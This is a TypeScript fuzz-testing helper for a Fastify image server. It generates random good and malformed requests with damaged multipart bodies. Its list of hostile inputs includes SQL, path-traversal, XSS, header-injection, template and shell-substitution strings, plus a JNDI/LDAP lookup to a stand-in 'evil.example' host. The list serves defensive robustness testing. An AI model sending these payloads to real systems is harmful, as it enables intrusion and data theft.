import type { InjectOptions } from "fastify";
import { Random } from "../../testing/random.js";
import { multipartBody } from "./browser.js";

/** What requests may use to get past the first door. */
export interface Secrets {
    readonly token: string;
    readonly cookie: string;
    readonly formToken: string;
    readonly ids: readonly string[];
    /** What the server takes for a picture, whatever follows it. */
    readonly picture: Buffer;
}

/** Texts that have broken other servers: in paths, queries, headers, cookies, fields and file names. */
export const hostileTexts: readonly string[] = [
    "",
    " ",
    "'",
    "' OR '1'='1",
    "1; DROP TABLE images;--",
    "\\x00",
    "\u0000",
    "\u0000'\u0000",
    "%00",
    "%",
    "%zz",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/passwd",
    "//evil.example/",
    "\r\nSet-Cookie: session=1",
    "%0d%0aSet-Cookie:%20session=1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "${7*7}{{7*7}}<%= 7*7 %>#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "__proto__",
    "constructor",
    "toString",
    "[object Object]",
    "null",
    "undefined",
    "NaN",
    "-1",
    "0",
    "1e309",
    "9".repeat(400),
    "a".repeat(3_000),
    "\ud800",
    "\u202egnp.exe",
    "🛶".repeat(50),
    "é̂".repeat(20),
    "*",
    "?",
    "#",
    ";",
    "|| id",
    "$(id)",
    "`id`",
    "{}",
    "[]",
    '{"$gt":""}',
    "true",
];

const methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"] as const;
const contentTypes = [
    "application/x-www-form-urlencoded",
    "application/json",
    "text/plain",
    "multipart/form-data",
    "multipart/form-data; boundary=----form7MA4YWxkTrZu0gW",
    "multipart/form-data; boundary=",
    'multipart/form-data; boundary="',
    "multipart/mixed; boundary=x",
    "application/octet-stream",
    ";;;",
    "",
];

/** Makes requests that a client could send, good ones and bad ones mixed, the same for the same seed. */
export class RandomRequests {
    private readonly random: Random;

    constructor(
        seed: number,
        private readonly routes: readonly string[],
        private readonly secrets: Secrets,
    ) {
        this.random = new Random(seed);
    }

    public next(): InjectOptions {
        const route = this.pick(this.routes);
        const [routeMethod = "GET", path = "/"] = route.split(" ");
        const method = this.chance(0.7)
            ? this.pick(methods.filter((each) => each === routeMethod))
            : this.pick(methods);
        const url = this.chance(0.08) ? `/${this.text()}` : this.fill(path);
        const headers = this.headers();
        const body = method === "GET" || method === "HEAD" ? undefined : this.body();
        return {
            method,
            url: injectable(encodeUnsafe(`${url}${this.query()}`)),
            headers: { ...headers, ...body?.headers },
            ...(body === undefined ? {} : { payload: body.payload }),
        };
    }

    private chance(probability: number): boolean {
        return this.random.fraction() < probability;
    }

    private pick<Value>(values: readonly Value[]): Value {
        const value = values[Math.floor(this.random.fraction() * values.length)];
        if (value === undefined) {
            throw new Error("There is nothing to pick from.");
        }
        return value;
    }

    private text(): string {
        return this.chance(0.2) ? `${this.pick(hostileTexts)}${this.pick(hostileTexts)}` : this.pick(hostileTexts);
    }

    private fill(path: string): string {
        return path.replace(":id", () => (this.chance(0.5) ? this.pick(this.secrets.ids) : this.text()));
    }

    private query(): string {
        const names = ["size", "limit", "cursor", "next", "__proto__", "size[]", "limit[$gt]", this.text()];
        const good = ["original", "thumbnail", "5", "/upload"];
        const pairs = Array.from({ length: Math.floor(this.random.fraction() * 3) }, () => {
            const value = this.chance(0.4) ? this.pick(good) : this.text();
            return `${this.pick(names)}=${this.chance(0.5) ? encodeURIComponent(value.replace(/\p{Cs}/gu, "")) : value}`;
        });
        return pairs.length === 0 ? "" : `?${pairs.join("&")}`;
    }

    private headers(): Record<string, string> {
        const { token, cookie, formToken } = this.secrets;
        const all: Record<string, () => string> = {
            authorization: () => (this.chance(0.8) ? `Bearer ${token}` : `Bearer ${this.text()}`),
            cookie: () => (this.chance(0.7) ? cookie : `session=${this.text()}; ${this.text()}`),
            "sec-fetch-site": () => this.pick(["same-origin", "same-origin", "cross-site", this.text()]),
            "x-csrf-token": () => (this.chance(0.5) ? formToken : this.text()),
            origin: () => this.text(),
            host: () => this.pick(["localhost", this.text()]),
            "x-forwarded-for": () => `${this.text()}, ${this.text()}`,
            "x-amzn-trace-id": () => this.text(),
            "if-none-match": () => this.pick(["*", '""', this.text()]),
            range: () => `bytes=${this.text()}`,
            accept: () => this.text(),
            "content-length": () => this.pick(["0", "-1", "99999999999", this.text()]),
            "accept-version": () => this.text(),
        };
        const rates: Record<string, number> = {
            authorization: 0.4,
            cookie: 0.5,
            "sec-fetch-site": 0.6,
            // Often enough for one that meets an image that is there.
            "if-none-match": 0.5,
            "content-length": 0.03,
        };
        return Object.fromEntries(
            Object.entries(all)
                .filter(([name]) => this.chance(rates[name] ?? 0.15))
                .map(([name, value]) => [name, value().replace(/[^\x20-\x7e\x80-\xff]/g, "")]),
        );
    }

    private body(): { headers: Record<string, string>; payload: string | Buffer } {
        const fields = {
            form_token: this.chance(0.6) ? this.secrets.formToken : this.text(),
            [this.pick(["name", "next", "password", "__proto__", "constructor", this.text()])]: this.text(),
        };
        if (this.chance(0.4)) {
            const payload = new URLSearchParams({ ...fields, name: this.text(), password: this.text() }).toString();
            return { headers: { "content-type": "application/x-www-form-urlencoded" }, payload };
        }
        const start = this.chance(0.6) ? this.secrets.picture : Buffer.alloc(0);
        const content = Buffer.concat([start, Buffer.from(this.text())]);
        const file = { field: this.pick(["image", "image", "image", this.text()]), name: this.text(), content };
        const form = multipartBody({ fields: this.chance(0.8) ? fields : {}, ...(this.chance(0.9) ? { file } : {}) });
        const type = this.chance(0.8) ? form.headers["content-type"] : this.pick(contentTypes);
        return { headers: { "content-type": type }, payload: this.damage(form.payload) };
    }

    /** Cuts, changes or repeats some of the bytes, often none. */
    private damage(bytes: Buffer): Buffer {
        const at = Math.floor(this.random.fraction() * bytes.length);
        const kind = this.random.fraction();
        if (kind < 0.15) {
            return bytes.subarray(0, at);
        }
        if (kind < 0.25) {
            const changed = Buffer.from(bytes);
            changed.writeUInt8(Math.floor(this.random.fraction() * 256), Math.min(at, changed.length - 1));
            return changed;
        }
        return kind < 0.3 ? Buffer.concat([bytes.subarray(0, at), bytes.subarray(at >> 1)]) : bytes;
    }
}

/** What no client can put into a request line, because it would end it, is encoded. */
function encodeUnsafe(url: string): string {
    return url.replace(/[^\x21-\x7e]/gu, (character) => encodeURIComponent(character.replace(/\p{Cs}/gu, "?")));
}

/** What `inject` cannot read as an address never reaches the server, so it is put behind a folder; on a socket it is sent as it is (sockets.test.ts). */
function injectable(url: string): string {
    const isReadable = URL.canParse(url.startsWith("//") ? `http://localhost${url}` : url, "http://localhost");
    return isReadable ? url : `/images/${encodeURIComponent(url)}`;
}
